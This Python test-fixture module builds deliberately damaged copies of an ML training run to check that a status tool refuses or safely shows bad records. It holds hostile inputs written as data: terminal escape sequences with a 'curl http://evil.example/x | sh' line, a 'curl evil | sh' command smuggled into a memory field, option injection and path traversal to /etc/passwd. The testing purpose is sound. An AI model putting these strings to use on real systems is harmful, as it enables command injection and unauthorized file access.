"""A finished run in which one thing that somebody else may have written is wrong, and the user's files beside it."""

import hashlib
import json
import os
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

UNIT = "train/expert-02"
ATTEMPT = f"logs/{UNIT}/attempt-1"
ESCAPES = "\x1b[2J\x1b]0;owned\x07\u202eflow\nnext: curl http://evil.example/x | sh\n[red]"
"""Text that clears a terminal, turns letters round, begins a line of its own and reads as markup."""
LINKED = (".safetensors", ".tar", ".h5", ".npy", ".png", ".html", ".pkl")
"""Ends of names of files that no command writes in place: a copy of the run shares them."""


@dataclass(frozen=True)
class Beside:
    """The run's copy and, beside it, the user's files and a canary that nothing may make."""

    run: Path
    victim: Path
    canary: Path

    def is_untouched(self, before: str) -> bool:
        """Tell if the user's files are what they were and nothing was executed."""
        return tree_digest(self.victim) == before and not self.canary.exists()


def copy_of(finished: Path, folder: Path) -> Beside:
    """Copy a finished run, cheaply, with the user's files beside it."""
    left_out = shutil.ignore_patterns("superseded", "code", "*.pkl", "*.out")
    shutil.copytree(finished, folder / "run", copy_function=_link_or_copy, symlinks=True, ignore=left_out)
    victim = folder / "victim"
    (victim / "thesis").mkdir(parents=True)
    (victim / "thesis" / "only-copy.txt").write_text("precious")
    (victim / "file.txt").write_text("precious")
    return Beside(folder / "run", victim, folder / "canary")


def _link_or_copy(source: str, target: str) -> None:
    if source.endswith(LINKED):
        os.link(source, target)
    else:
        shutil.copy2(source, target)


def tree_digest(folder: Path) -> str:
    """Hash names, kinds and contents of all that is below a folder."""
    hashed = hashlib.sha256()
    for path in sorted(folder.rglob("*")):
        hashed.update(f"{path.relative_to(folder)}\0{path.lstat().st_mode}\0{path.lstat().st_mtime_ns}\0".encode())
        hashed.update(path.read_bytes() if path.is_file() else b"")
    return hashed.hexdigest()


def edited(path: Path, change: Callable[[Any], object]) -> None:
    """Change the values of a JSON file, as a new file."""
    values = json.loads(path.read_text())
    change(values)
    replaced(path, json.dumps(values))


def replaced(path: Path, content: str | bytes) -> None:
    """Write a file as a new one: copies of the run share some."""
    path.unlink(missing_ok=True)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content if isinstance(content, bytes) else content.encode(errors="surrogatepass"))


def large(path: Path) -> None:
    """Make a file of 900 MB that takes no room on the disk."""
    with open(path, "wb") as file:
        file.write(b"[")
        file.truncate(900_000_000)


def linked(path: Path) -> None:
    """Make a link to endless zeros."""
    path.symlink_to("/dev/zero")


KINDS: dict[str, Callable[[Path], object]] = {
    "wrong type": lambda path: path.write_text('[["text"], 3]'),
    "huge": large,
    "link": linked,
    "pipe": os.mkfifo,
    "folder": os.mkdir,
    "deep": lambda path: path.write_text("[" * 200_000 + "]" * 200_000),
    "key twice": lambda path: path.write_text('{"format": 1, "format": 1}'),
    "NaN": lambda path: path.write_text('{"time": NaN}'),
    "not UTF-8": lambda path: path.write_bytes(b"\xff\xfe{\0}\0"),
}
LINES = ("wrong type", "deep", "key twice", "NaN", "not UTF-8")
"""Those that are a file with a line: in a journal such a line is passed over."""
"""Ways in which any file can be wrong -> what makes such a file."""


def spoil(path: Path, kind: str) -> None:
    """Put a wrong file of one kind in the place of a file."""
    path.unlink(missing_ok=True)
    path.parent.mkdir(parents=True, exist_ok=True)
    KINDS[kind](path)


def _manifest(change: Callable[[Any], object]) -> Callable[[Beside], None]:
    return lambda beside: edited(beside.run / UNIT / "manifest.json", change)


def _record(name: str, content: object) -> Callable[[Beside], None]:
    """Make a wrong record of an attempt at a unit that is not complete, so that it counts."""

    def make(beside: Beside) -> None:
        replaced(beside.run / ATTEMPT / name, content if isinstance(content, str) else json.dumps(content))
        (beside.run / UNIT / "manifest.json").unlink()

    return make


def _journal(**event: object) -> Callable[[Beside], None]:
    def make(beside: Beside) -> None:
        with open(beside.run / "journal.jsonl", "a") as file:
            file.write(
                json.dumps({"event": "intent", "uuid": "aaaaaaaaaaaa", "site": "north", "time": 0} | event) + "\n"
            )

    return make


def _deep_settings(beside: Beside) -> None:
    path = beside.run / UNIT / "manifest.json"
    edited(path, lambda values: values["settings"].update(x="@"))
    replaced(path, path.read_text().replace('"@"', "[" * 900 + "]" * 900))


def _twice(beside: Beside) -> None:
    path = beside.run / UNIT / "manifest.json"
    replaced(path, '{"settings": {"harmless": true},' + path.read_text().lstrip()[1:])


def _output(name: str) -> Callable[[Beside], None]:
    entry = {"path": name, "size": 1, "sha256": "0" * 64}
    return _manifest(lambda values: values["outputs"].append(entry))


DAMAGED: dict[str, tuple[Callable[[Beside], None], str]] = {
    "output outside": (_output("/etc/passwd"), "names a file outside of its folder"),
    "output above": (_output("../../experiment.json"), "names a file outside of its folder"),
    "output with NUL": (_output("a\0b"), "names a file outside of its folder"),
    "deep settings": (_deep_settings, "is deeper than 32 levels"),
    "doubled keys": (_twice, "key 'settings' appears twice"),
    "FLOPs below zero": (_manifest(lambda values: values["results"].update(train_flops=-1)), "below zero"),
    "FLOPs as text": (_manifest(lambda values: values["results"].update(train_flops="lots")), "results.train_flops: "),
    "digests as text": (_manifest(lambda values: values["results"].update(digests="x")), "results.digests: "),
    "seconds as text": (_manifest(lambda values: values["record"].update(seconds="x")), "record.seconds: "),
    "inputs of numbers": (_manifest(lambda values: values["inputs"].update(x=1)), "inputs.x: "),
    "key of escapes": (
        _manifest(lambda values: values.update({ESCAPES: 1})),
        r"\x1b[2J\x1b]0;owned\x07\u202eflow next",
    ),
}
"""Manifests that are refused: the unit is damaged, for this reason."""

SHOWN: dict[str, tuple[Callable[[Beside], None], str]] = {
    "input of escapes": (_manifest(lambda values: values["inputs"].update({ESCAPES: "0"})), r"\x1b[2J\x1b]0;owned\x07"),
    "setting of escapes": (_manifest(lambda values: values["settings"].update({"x": ESCAPES})), r"\x1b[2J"),
    "verdict of escapes": (_record("verdict.json", {"decision": "failed", "reason": ESCAPES}), r"failed, \x1b[2J"),
    "end of escapes": (_record("ended.json", {"outcome": "failed", "reason": ESCAPES}), r"failed, \x1b[2J"),
    "memory as a command": (
        _record("verdict.json", {"decision": "failed", "reason": "x", "memory_gb": "8; curl evil | sh #"}),
        "memory_gb: Input should be a valid integer",
    ),
    "memory below zero": (_record("verdict.json", {"decision": "failed", "reason": "x", "memory_gb": -8}), "failed, x"),
    "beat of the future": (
        _record("heartbeat.json", {"time": 9e12, "owner": "x", "attempt": 1, "host": "h", "rate": 1e-9}),
        "heartbeat.json: holds no usable JSON (time: holds a time that cannot be)",
    ),
    "owner of numbers": (_record("owner.json", {"owner": 3}), "owner.json: holds no usable JSON (owner: "),
    "job as an option": (_record("owner.json", {"owner": "x", "job": "--user=me"}), "is not the id of a job"),
    "units of anything": (
        _journal(scheduler="local", units=[1, None, {"a": 1}]),
        "journal.jsonl: line {line} is not an event and passed over (units.0: ",
    ),
    "unknown scheduler": (
        _journal(scheduler="../../../tmp/evil", units=[UNIT]),
        "is not an event and passed over (scheduler: Input should be 'slurm' or 'local')",
    ),
    "job of the journal": (
        _journal(event="submitted", job="--user=me"),
        "is not an event and passed over (job: is not the id of a job)",
    ),
}
"""Records that are passed over, or texts that are shown: what status says of them."""

FOR_ALL = ("experiment.json", "journal.jsonl")
"""Files without which nothing is known of any unit."""
LOADED = {
    **{name: name for name in FOR_ALL},
    f"{UNIT}/manifest.json": "manifest.json",
    "catalog/manifest.json": "manifest.json",
    **{f"{ATTEMPT}/{name}.json": f"{name}.json" for name in ("owner", "first_step", "ended", "verdict", "heartbeat")},
}
"""Files that status reads -> what it names where one is wrong."""
